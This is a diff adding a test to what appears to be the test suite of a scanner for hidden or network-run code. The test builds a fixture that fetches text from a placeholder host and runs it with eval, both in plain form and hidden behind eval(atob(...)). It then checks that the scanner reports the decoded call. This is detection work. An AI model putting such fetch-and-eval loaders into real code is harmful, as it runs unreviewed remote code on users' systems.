@@ -80,4 +80,12 @@ describe('a finding', () => {
     });
     assert.equal(foundIn({ 'a.ipynb': notebook }, 'hidden-cell')[0]?.excerpt, 'cell 1: import os print(os)');
   });
+
+  it('of what only a decoder reads says so, and of what stands in a text does not', () => {
+    const code = 'fetch("https://files.example/a").then((r) => r.text()).then((t) => eval(t));';
+    const hidden = `eval(atob("${btoa(code)}"));\n`;
+    assert.match(foundIn({ 'a.js': hidden }, 'network-code-run')[0]?.excerpt ?? '', /^decoded: eval\(t\)/);
+    const open = `eval('${code}');\n`;
+    assert.match(foundIn({ 'a.js': open }, 'network-code-run')[0]?.excerpt ?? '', /^eval\(t\)/);
+  });
 });
